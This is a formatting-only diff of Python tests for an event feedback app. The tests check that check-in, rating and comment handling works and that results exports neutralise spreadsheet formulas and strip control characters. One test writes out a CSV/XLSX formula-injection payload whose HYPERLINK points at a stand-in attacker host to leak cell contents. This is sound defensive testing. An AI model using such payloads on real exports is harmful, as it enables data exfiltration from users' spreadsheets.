@@ -8,19 +8,29 @@ from tests.events.test_checkin_http import open_event
 
 async def event_with_talk(organiser, started=True, **changes):
     start = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))) - dt.timedelta(minutes=10 if started else -60)
-    event = await open_event(organiser, date=start.strftime("%Y-%m-%d"), start_time=start.strftime("%H:%M"),
-                             end_time="23:59", **changes)
-    branch = (await organiser.api("POST", "/api/branches/", {"name": "党建工作科党支部", "unit": "芙蓉区税务局"})).json()
+    event = await open_event(
+        organiser, date=start.strftime("%Y-%m-%d"), start_time=start.strftime("%H:%M"), end_time="23:59", **changes
+    )
+    branch = (
+        await organiser.api("POST", "/api/branches/", {"name": "党建工作科党支部", "unit": "芙蓉区税务局"})
+    ).json()
     method = (await organiser.api("POST", "/api/methods/", {"title": "37℃学习法", "branch_id": branch["id"]})).json()
-    agenda = (await organiser.api("POST", f"/api/events/{event['id']}/agenda/items",
-                                  {"kind": "presentation", "duration": 30, "method_id": method["id"]})).json()
+    agenda = (
+        await organiser.api(
+            "POST",
+            f"/api/events/{event['id']}/agenda/items",
+            {"kind": "presentation", "duration": 30, "method_id": method["id"]},
+        )
+    ).json()
     return event, agenda["items"][0]["id"]
 
 
 async def rows(organiser, event_id):
     from events.tables import Feedback
 
-    return await organiser.run(lambda: Feedback.select(Feedback.rating, Feedback.comment).where(Feedback.event == event_id))
+    return await organiser.run(
+        lambda: Feedback.select(Feedback.rating, Feedback.comment).where(Feedback.event == event_id)
+    )
 
 
 async def test_checked_in_phone_rates_and_changes_its_rating(organiser):
@@ -103,7 +113,9 @@ async def test_audience_choice_and_overall_rating_one_per_phone(organiser):
     await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
     page = await organiser.get("/e/shuixin-2026/feedback")
     assert "观众之选" in text_of(page.text)
-    await organiser.form("/e/shuixin-2026/feedback/overall", {"choice": str(item), "rating": "4", "comment": "收获很大"})
+    await organiser.form(
+        "/e/shuixin-2026/feedback/overall", {"choice": str(item), "rating": "4", "comment": "收获很大"}
+    )
     await organiser.form("/e/shuixin-2026/feedback/overall", {"choice": str(item), "rating": "5"})  # changes, not adds
     from events.tables import EventVote
 
@@ -146,13 +158,17 @@ async def test_results_export_has_no_formula_and_survives_a_control_character(or
     event, item = await event_with_talk(organiser)
     await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
     attack = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
-    assert (await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": attack})).status_code == 200
+    assert (
+        await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": attack})
+    ).status_code == 200
     base = f"/organiser/events/{event['id']}/feedback/results"
     sheet = (await organiser.get(f"{base}.xlsx")).content
     assert formulas_in_xlsx(sheet) == [] and xlsx_cells(sheet)[1][4] == ("'" + attack, "s")
     assert formulas_in_csv((await organiser.get(f"{base}.csv")).content) == []
     # A comment stored before text was cleaned on the way in: the exports still answer.
-    await organiser.run(lambda: Feedback.update({Feedback.comment: "@SUM(1,2)\x01\x0b好"}).where(Feedback.event == event["id"]))
+    await organiser.run(
+        lambda: Feedback.update({Feedback.comment: "@SUM(1,2)\x01\x0b好"}).where(Feedback.event == event["id"])
+    )
     xlsx, csv = await organiser.get(f"{base}.xlsx"), await organiser.get(f"{base}.csv")
     assert xlsx.status_code == 200 and xlsx_cells(xlsx.content)[1][4] == ("'@SUM(1,2)好", "s")
     assert csv.status_code == 200 and csv_rows(csv.content)[1][4] == "'@SUM(1,2)好"
@@ -161,12 +177,18 @@ async def test_results_export_has_no_formula_and_survives_a_control_character(or
 async def test_comment_control_characters_are_removed_and_nul_refused(organiser):
     event, item = await event_with_talk(organiser)
     await organiser.form("/e/shuixin-2026/checkin", {"name": "谭玲"})
-    saved = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": "很\x01实用\u202e\x1b\n第二行"})
-    assert saved.status_code == 200 and await rows(organiser, event["id"]) == [{"rating": 4, "comment": "很实用\n第二行"}]
+    saved = await organiser.form(
+        f"/e/shuixin-2026/feedback/{item}", {"rating": "4", "comment": "很\x01实用\u202e\x1b\n第二行"}
+    )
+    assert saved.status_code == 200 and await rows(organiser, event["id"]) == [
+        {"rating": 4, "comment": "很实用\n第二行"}
+    ]
     refused = await organiser.form(f"/e/shuixin-2026/feedback/{item}", {"rating": "5", "comment": "很\x00实用"})
     assert refused.status_code == 400 and "无法保存" in text_of(refused.text)
     assert await rows(organiser, event["id"]) == [{"rating": 4, "comment": "很实用\n第二行"}]
     overall = await organiser.form("/e/shuixin-2026/feedback/overall", {"rating": "5", "comment": "整体\x07不错\u2066"})
     from events.tables import EventVote
 
-    assert overall.status_code == 200 and await organiser.run(lambda: EventVote.select(EventVote.comment)) == [{"comment": "整体不错"}]
+    assert overall.status_code == 200 and await organiser.run(lambda: EventVote.select(EventVote.comment)) == [
+        {"comment": "整体不错"}
+    ]
